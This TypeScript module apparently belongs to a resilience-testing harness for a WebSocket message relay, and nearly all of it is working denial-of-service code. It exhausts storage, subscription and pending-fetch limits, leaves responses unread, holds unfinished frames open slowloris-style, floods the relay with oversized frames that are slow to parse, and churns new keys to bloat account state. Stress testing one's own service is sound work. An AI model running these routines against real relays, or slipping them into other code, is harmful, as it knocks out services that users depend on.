import { get } from 'node:http'
import { WebSocket } from 'ws'
import {
  createDrafts,
  createFrameWithBadIds,
  createObjectWithNewKeys,
  createPublishRequest,
  flood,
  holdSockets,
  kib,
  longIncludeQuery,
  nextMessage,
  openAuthorizedSocket,
  openSockets,
  publishWideFrames,
  randomTopic,
  rawSocketOf,
  request,
  searchWallets,
  type Target,
  topic,
  waitWhileAttacking,
} from './hostileClient.ts'

/**
 * Uses up all limits at the same time, until the attack is over: stored messages, subscriptions, responses that the client does not read,
 * waiting fetches and unfinished frames. In addition, the attack sends frames of the maximum length and searches for wallets.
 *
 * @param fillingKeys - The number of clients with new keys. Each of them stores as many very short messages as the limits allow. A relay
 *   without a data folder keeps these messages in memory.
 */
export async function exhaustLimits(target: Target, fillingKeys: number): Promise<void> {
  await requestImage(target)
  await Promise.all(Array.from({ length: fillingKeys }, () => fillStorageOnce(target)))
  const sockets = [...(await subscribeAll(target)), ...(await leaveResponsesUnread(target))]
  const giantFrame = createFrameWithBadIds(255 * kib)
  const sendGiantFrames = async () => {
    await waitWhileAttacking(target, 8_000)
    await Promise.all([flood(target, () => giantFrame), searchWallets(target, longIncludeQuery)])
  }
  await Promise.all([fetchMany(target), leaveFramesUnfinished(target), sendGiantFrames()])
  for (const socket of sockets) socket.terminate()
}

/**
 * Uses up all limits while clients with new keys connect and disconnect. Eight more clients send the long frames that take the relay the
 * longest to parse.
 */
export async function exhaustLimitsWithLongFrames(target: Target, fillingKeys: number): Promise<void> {
  const sendLongFrames = async () => {
    await waitWhileAttacking(target, 14_000)
    if (target.isOver()) return
    const frames = Array.from({ length: 64 }, () => {
      const params = `[${Array.from({ length: 44 }, () => createObjectWithNewKeys(100))}]`
      return `{"id":1,"jsonrpc":"2.0","method":"x","params":${params}}`.padEnd(250 * kib)
    })
    let sentCount = 0
    const takeNextFrame = () => {
      sentCount += 1
      return frames[sentCount % frames.length] ?? ''
    }
    await Promise.all(Array.from({ length: 8 }, () => flood(target, takeNextFrame)))
  }
  await Promise.all([exhaustLimits(target, fillingKeys), connectAndDisconnect(target), sendLongFrames()])
}

/**
 * Uses up the limits of subscriptions and unread responses. Then publishes messages in frames that also contain thousands of new object
 * keys, so that many messages wait to be stored.
 */
export async function exhaustLimitsWithWideFrames(target: Target): Promise<void> {
  await requestImage(target)
  const sockets = [...(await subscribeAll(target)), ...(await leaveResponsesUnread(target))]
  const sendWideFrames = async () => {
    // The attack has used up the byte limit of its IP address. The limit refills during this wait.
    await waitWhileAttacking(target, 16_000)
    await publishWideFrames(target)
  }
  await Promise.all([connectAndDisconnect(target), sendWideFrames()])
  for (const socket of sockets) socket.terminate()
}

/** Requests an image, because at the first such request the server loads the metadata of all images into memory. */
function requestImage({ relayUrl, from }: Target): Promise<void> {
  const { hostname: host, port } = new URL(relayUrl)
  const path = '/public/getTokenImage/ETH?projectId=test'
  return new Promise((resolve) => {
    const clientRequest = get({ host, port, path, localAddress: from }, (response) =>
      response.resume().on('close', resolve),
    )
    clientRequest.on('error', () => resolve())
  })
}

/** Repeats a request until it has succeeded `count` times, or until the relay refuses it for a reason other than the rate limit. */
async function repeatRequest(
  target: Target,
  socket: WebSocket,
  { count, frame }: { count: number; frame: () => string },
) {
  for (let done = 0; done < count && !target.isOver() && socket.readyState === WebSocket.OPEN; ) {
    socket.send(frame())
    target.counts.sent += 1
    const response = await nextMessage(socket)
    if (response.includes('"result"')) done += 1
    else if (response.includes('slow down')) await waitWhileAttacking(target, 500)
    else return
  }
}

async function fillStorageOnce(target: Target) {
  const socket = await openAuthorizedSocket(target)
  if (!socket) return
  const createFrame = () => request('irn_batchPublish', { messages: createDrafts(100, randomTopic, 604_800) })
  await repeatRequest(target, socket, { count: 10, frame: createFrame })
  socket.terminate()
}

async function subscribeAll(target: Target): Promise<readonly WebSocket[]> {
  const sockets = (await openSockets(target, 4)).slice(0, 4)
  const createFrame = () => request('irn_batchSubscribe', { topics: Array.from({ length: 500 }, randomTopic) })
  await Promise.all(sockets.map((socket) => repeatRequest(target, socket, { count: 10, frame: createFrame })))
  return sockets
}

/** Many clients request long messages and do not read the responses. */
async function leaveResponsesUnread(target: Target): Promise<readonly WebSocket[]> {
  const publisherSocket = await openAuthorizedSocket(target)
  for (let number = 0; number < 30; number += 1)
    publisherSocket?.send(createPublishRequest(`${number} ${'x'.repeat(45_000)}`))
  await waitWhileAttacking(target, 8_000)
  const sockets = await openSockets(target, 160)
  for (const socket of sockets) {
    socket.pause()
    for (let count = 0; count < 2 && socket.readyState === WebSocket.OPEN; count += 1)
      socket.send(request('irn_fetchMessages', { topic }))
  }
  target.counts.sent += 2 * sockets.length
  await waitWhileAttacking(target, 2_000)
  return sockets
}

/** Sends batch fetches with the maximum number of topics. The fetches wait in the relay's queue and take memory. */
async function fetchMany(target: Target) {
  while (!target.isOver()) {
    const sockets = await openSockets(target, 20)
    for (let count = 0; count < 20; count += 1)
      for (const socket of sockets) {
        if (socket.readyState !== WebSocket.OPEN) continue
        socket.send(request('irn_batchFetchMessages', { topics: Array.from({ length: 500 }, randomTopic) }))
        target.counts.sent += 1
      }
    await waitWhileAttacking(target, 5_000)
    for (const socket of sockets) socket.terminate()
  }
}

/** Clients with new keys connect and disconnect. The relay keeps an account for each key until its next removal of unused accounts. */
async function connectAndDisconnect(target: Target) {
  while (!target.isOver()) {
    const openedSockets = await Promise.all(Array.from({ length: 6 }, () => openAuthorizedSocket(target)))
    for (const socket of openedSockets) socket?.terminate()
    await waitWhileAttacking(target, 100)
  }
}

function leaveFramesUnfinished(target: Target): Promise<void> {
  const length = 60 * kib
  const frameStart = Buffer.from([0x81, 0xfe, length >> 8, length & 0xff, 0, 0, 0, 0])
  const unfinishedFrame = Buffer.concat([frameStart, Buffer.alloc(length - 1, 'x')])
  return holdSockets(target, 40, async () => {
    const socket = await openAuthorizedSocket(target)
    if (socket) rawSocketOf(socket).write(unfinishedFrame)
    return socket
  })
}
